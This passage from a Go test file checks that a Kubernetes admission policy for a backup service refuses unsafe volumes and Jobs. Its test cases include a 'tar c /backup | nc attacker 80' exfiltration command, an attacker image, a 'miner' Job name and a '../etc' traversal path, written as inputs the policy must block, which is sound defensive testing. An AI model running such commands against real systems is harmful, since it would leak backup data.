				pv.Spec.PersistentVolumeReclaimPolicy = corev1.PersistentVolumeReclaimDelete
			},
			"not labelled": func(pv *corev1.PersistentVolume) { delete(pv.Labels, "app.kubernetes.io/managed-by") },
		}
		for name, mod := range pvCases {
			t.Run("refused: a PersistentVolume of "+name, func(t *testing.T) {
				pv := own.PV.DeepCopy()
				mod(pv)
				_, err := webhook.CoreV1().PersistentVolumes().Create(ctx, pv, dry)
				if err == nil || !strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
					t.Fatalf("create = %v, want a refusal by the policy", err)
				}
			})
		}
		t.Run("refused: a source volume of the whole volume, or deeper", func(t *testing.T) {
			for _, p := range []string{"/exports/smartbackup", "/exports/smartbackup/" + enabled + "/x", "/exports/smartbackup/../etc"} {
				pv := src.PV.DeepCopy()
				pv.Spec.NFS.Path = p
				_, err := webhook.CoreV1().PersistentVolumes().Create(ctx, pv, dry)
				if err == nil || !strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
					t.Errorf("%s: create = %v, want a refusal by the policy", p, err)
				}
			}
		})
		t.Run("refused: a writable source volume", func(t *testing.T) {
			pv := src.PV.DeepCopy()
			pv.Spec.NFS.ReadOnly = false
			_, err := webhook.CoreV1().PersistentVolumes().Create(ctx, pv, dry)
			if err == nil || !strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
				t.Fatalf("create = %v, want a refusal by the policy", err)
			}
		})
		t.Run("refused: a claim of another namespace's volume", func(t *testing.T) {
			pvc := own.PVC.DeepCopy()
			pvc.Spec.VolumeName = cronjobs.PVName(enabled, false)
			_, err := webhook.CoreV1().PersistentVolumeClaims(hml).Create(ctx, pvc, dry)
			if err == nil || !strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
				t.Fatalf("create = %v, want a refusal by the policy", err)
			}
		})
		jobCases := map[string]func(j *batchv1.Job){
			"another namespace's directory": func(j *batchv1.Job) { j.Spec.Template.Spec.Containers[0].Args[2] = "globex-prd" },
			"another image":                 func(j *batchv1.Job) { j.Spec.Template.Spec.Containers[0].Image = "attacker/tools:latest" },
			"a command": func(j *batchv1.Job) {
				j.Spec.Template.Spec.Containers[0].Command = []string{"/bin/sh", "-c", "tar c /backup | nc attacker 80"}
			},
			"another name": func(j *batchv1.Job) { j.Name = "miner" },
		}
		for name, mod := range jobCases {
			t.Run("refused: a Job with "+name, func(t *testing.T) {
				j := job.DeepCopy()
				mod(j)
				_, err := webhook.BatchV1().Jobs("smartbackup").Create(ctx, j, dry)
				if err == nil || !strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
					t.Fatalf("create = %v, want a refusal by the policy", err)
				}
			})
		}
		t.Run("refused: a provisioning Job in a tenant namespace", func(t *testing.T) {
			j := job.DeepCopy()
			j.Namespace = hml
			_, err := webhook.BatchV1().Jobs(hml).Create(ctx, j, dry)
			if err == nil || !(strings.Contains(err.Error(), "ValidatingAdmissionPolicy") || apierrors.IsForbidden(err)) {
				t.Fatalf("create = %v, want a refusal", err)
			}
		})
	})
}

// TestDisruptionBudgetOnlyWithReplicas: with one replica, a PodDisruptionBudget of
// minAvailable 1 would block every node drain, so there is none.
func TestDisruptionBudgetOnlyWithReplicas(t *testing.T) {
	for replicas, want := range map[string]bool{"1": false, "2": true, "3": true} {
		found := false
		for _, o := range decode(t, helm(t, "--set", "replicas="+replicas)) {
			found = found || o.GetKind() == "PodDisruptionBudget"
		}
		if found != want {
			t.Errorf("replicas=%s: PodDisruptionBudget rendered %v, want %v", replicas, found, want)
		}
	}
}
